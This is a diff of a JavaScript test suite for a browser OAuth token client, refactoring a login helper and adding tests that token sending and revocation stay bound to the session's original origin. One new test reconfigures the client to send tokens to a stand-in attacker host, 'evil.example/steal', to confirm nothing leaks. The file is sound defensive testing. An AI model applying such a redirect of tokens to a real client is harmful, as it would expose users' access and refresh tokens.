@@ -7,7 +7,7 @@ const TOKEN_URL = ORIGIN + '/oauth2/token';
 // loggedIn returns a fake page whose token endpoint hands out a1/r1 for the
 // password grant and a2/r2, a3/r3, ... for each refresh; api(call) answers
 // the other calls.
-async function loggedIn({ expiresIn = 3600, api = () => json(200, { ok: true }), refreshAnswer } = {}) {
+async function loggedIn({ expiresIn = 3600, api = () => json(200, { ok: true }), refreshAnswer, config = {} } = {}) {
   let n = 1;
   const b = browser({
     route(call) {
@@ -23,7 +23,7 @@ async function loggedIn({ expiresIn = 3600, api = () => json(200, { ok: true }),
       return api(call);
     },
   });
-  b.client.configure({ clientId: 'demo-spa' });
+  b.client.configure({ clientId: 'demo-spa', ...config });
   const result = await b.client.login('johndoe', 'foobar42');
   assert.equal(result.error, undefined);
   b.calls.length = 0;
@@ -75,8 +75,7 @@ test('fetch attaches the bearer token to same-origin calls only', async () => {
 });
 
 test('fetch sends the token to an origin only when configured', async () => {
-  const b = await loggedIn();
-  b.client.configure({ allowedOrigins: ['https://api.example/'] });
+  const b = await loggedIn({ config: { allowedOrigins: ['https://api.example/'] } });
   await b.client.fetch('https://api.example/v1/me');
   await b.client.fetch('https://other.example/v1/me');
   assert.equal(bearerOf(b.calls[0]), 'Bearer a1');
@@ -230,8 +229,7 @@ test('a 401 whose refresh fails transiently is returned without a retry', async 
 });
 
 test('logout forgets the tokens, stops the timer and revokes when configured', async () => {
-  const b = await loggedIn({ expiresIn: 100, api: (call) => (call.url.endsWith('/oauth2/revoke') ? new Response('', { status: 200 }) : json(200, {})) });
-  b.client.configure({ revokeEndpoint: '/oauth2/revoke' });
+  const b = await loggedIn({ expiresIn: 100, config: { revokeEndpoint: '/oauth2/revoke' }, api: (call) => (call.url.endsWith('/oauth2/revoke') ? new Response('', { status: 200 }) : json(200, {})) });
   const revoked = await b.client.logout();
   assert.equal(revoked, true);
   assert.equal(b.client.isAuthenticated(), false);
@@ -249,21 +247,35 @@ test('logout forgets the tokens, stops the timer and revokes when configured', a
 
 test('logout tolerates a missing revocation endpoint and a network failure', async () => {
   for (const answer of [() => new Response('<h1>404</h1>', { status: 404, statusText: 'Not Found' }), () => { throw new TypeError('Failed to fetch'); }]) {
-    const b = await loggedIn({ api: answer });
-    b.client.configure({ revokeEndpoint: '/oauth2/revoke' });
+    const b = await loggedIn({ api: answer, config: { revokeEndpoint: '/oauth2/revoke' } });
     assert.equal(await b.client.logout(), false);
     assert.equal(b.client.isAuthenticated(), false);
   }
 });
 
 test('logging in again revokes the previous session when configured', async () => {
-  const b = await loggedIn({ api: () => new Response('', { status: 200 }) });
-  b.client.configure({ revokeEndpoint: '/oauth2/revoke' });
+  const b = await loggedIn({ api: () => new Response('', { status: 200 }), config: { revokeEndpoint: '/oauth2/revoke' } });
   await b.client.login('johndoe', 'foobar42');
   const rv = b.calls.filter((c) => c.url === ORIGIN + '/oauth2/revoke');
   assert.equal(rv.length, 1);
   assert.equal(rv[0].body.get('token'), 'r1');
   assert.equal(b.client.isAuthenticated(), true);
+});
+
+test('a session keeps where its tokens may go: configure() after login changes nothing for it', async () => {
+  const b = await loggedIn({ config: { revokeEndpoint: '/oauth2/revoke' }, api: () => new Response('', { status: 200 }) });
+  b.client.configure({ revokeEndpoint: 'https://evil.example/x', allowedOrigins: ['https://evil.example'] });
+  await b.client.fetch('https://evil.example/steal');
+  assert.equal(bearerOf(b.calls.at(-1)), null, 'no access token for an origin added during the session');
+  assert.equal(await b.client.logout(), true);
+  assert.ok(!b.calls.some((c) => c.url.startsWith('https://evil.example') && c.method === 'POST'), 'the refresh token goes nowhere else');
+  assert.ok(b.calls.some((c) => c.url === ORIGIN + '/oauth2/revoke'), 'it is revoked where the session started');
+});
+
+test('a revocation endpoint on another origin than the token endpoint is not used', async () => {
+  const b = await loggedIn({ config: { revokeEndpoint: 'https://other.example/oauth2/revoke' } });
+  assert.equal(await b.client.logout(), false);
+  assert.equal(b.calls.length, 0, 'the refresh token is not sent to another origin');
 });
 
 test('logout without a revocation endpoint makes no call', async () => {
